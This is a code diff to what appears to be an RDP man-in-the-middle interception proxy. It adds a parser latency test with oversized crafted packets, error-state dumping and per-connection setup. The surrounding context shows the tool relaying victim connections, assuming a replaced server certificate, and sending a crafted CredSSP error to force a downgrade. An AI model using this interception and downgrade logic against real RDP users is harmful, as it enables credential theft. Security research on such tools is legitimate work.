+        ("server cert markers", tpkt(b"\x01\x0c\x03\x0c" +
+            b"\x02\x0c"*0x7FFE)),
+        ("keyboard layout markers", tpkt(b"\x0d\x00"*0x7FFF)),
+        ("NTLMSSP markers", tpkt(b"NTLMSSP\x00\x02\x00\x00\x00"*0x1500)),
+        ("fast-path zero run", fast_path(b"\x00"*0x7FFF)),
+        ("fast-path key presses", fast_path(b"\x02\x1e"*0x3FFF)),
+        # every zero byte is a literal
+        ("MPPC literals", share_data(b"\x00"*0xFFFF)),
+        ("MPPC high literals", share_data(high_literals)),
+        ("MPPC long match", share_data(long_match)),
+        ("fast-path MPPC literals", fast_path_update(b"\x00"*0x7FFF)),
+    ]
+
 
-        hexdump(data)
+def latency_check():
+    global crypto
+    global decompressors
+    global analysis_guard
+    failed = False
+    if not analysis_guard.budget:
+        budget = parser.get_default('analysis_budget')
+        print("No analysis budget set, using the default of %g ms" % budget)
+        analysis_guard = AnalysisGuard(budget/1000)
+    for name, packet in adversarial_corpus():
+        for From in ["Client", "Server"]:
+            decompressors = {"Client": MPPC(), "Server": MPPC()}
+            # Pretend that the server certificate has been replaced, so the
+            # client random is looked for, too
+            crypto = {
+                "client_rand": b"",
+                "server_rand": b"\x00"*32,
+                "mykey": {"privateExponent": 1, "modulus": 2**512+1},
+            }
+            start = time.perf_counter()
+            try:
+                with open(os.devnull, "w") as devnull:
+                    with contextlib.redirect_stdout(devnull):
+                        parse_rdp_packet(packet, From=From)
+            except Exception as e:
+                print("%s from %s: %s" % (name, From.lower(), repr(e)))
+                failed = True
+            elapsed = time.perf_counter() - start
+            print("%-24s %-6s %6d bytes %8.1f ms" % (name, From, len(packet),
+                                                     elapsed*1000))
+    for step, elapsed in sorted(analysis_guard.max_elapsed.items()):
+        status = "ok"
+        if analysis_guard.overruns[step]:
+            status = "over budget"
+            failed = True
+        print("%-24s %8.1f ms  %s" % (step, elapsed*1000, status))
+    return 1 if failed else 0
 
 
 def handle_protocol_negotiation():
@@ -715,6 +1333,7 @@ def enableSSL():
 
 
 def close():
+    dump_flight_recorder("Connection closed")
     if "local_conn" in globals():
         local_conn.close()
     if "remote_conn" in globals():
@@ -744,17 +1363,20 @@ def forward_data():
         except ssl.SSLError as e:
             if "alert access denied" in str(e):
                 print("TLS alert access denied, Downgrading CredSSP")
+                dump_flight_recorder("TLS alert access denied")
                 #  local_conn.send(unhexlify(b"300da003020104a4060204c000005e"))
                 data = b"300da003020104a4060204c000005e"
                 to_socket.send(data)
                 return False
             elif "alert internal error" in str(e):
                 print("TLS alert internal error, ...")
+                dump_flight_recorder("TLS alert internal error")
                 data = b"300da003020104a4060204c000005e"
                 #  to_socket.send(data)
                 to_socket.close()
                 return False
             else:
+                dump_flight_recorder("SSLError: %s" % str(e))
                 raise
         if data == b"": return close()
         dump_data(data, From=From)
@@ -767,9 +1389,15 @@ def forward_data():
 def open_sockets():
     global local_conn
     global remote_socket
+    global flight_recorder
+    global decompressors
+    global analysis_guard
     print("Waiting for connection")
     local_conn, addr = local_socket.accept()
     print("Connection received from " + addr[0])
+    flight_recorder = FlightRecorder(args.debug_packets, peer=addr[0])
+    decompressors = {"Client": MPPC(), "Server": MPPC()}
+    analysis_guard = AnalysisGuard(args.analysis_budget/1000)
 
     remote_socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     remote_socket.connect((args.target_host, args.target_port))
@@ -788,12 +1416,22 @@ def run():
             print("SSLError: %s" % str(e))
         except (ConnectionResetError, OSError):
             print("The client has disconnected")
+            dump_flight_recorder("The client has disconnected")
+        except Exception as e:
+            dump_flight_recorder(repr(e))
+            raise
+
+
+analysis_guard = AnalysisGuard(args.analysis_budget/1000)
 
+if args.latency_check:
+    sys.exit(latency_check())
 
 local_socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
 local_socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 local_socket.bind((args.bind_ip, args.listen_port))
 local_socket.listen()
+signal.signal(signal.SIGUSR1, handle_sigusr1)
 
 try:
     while True: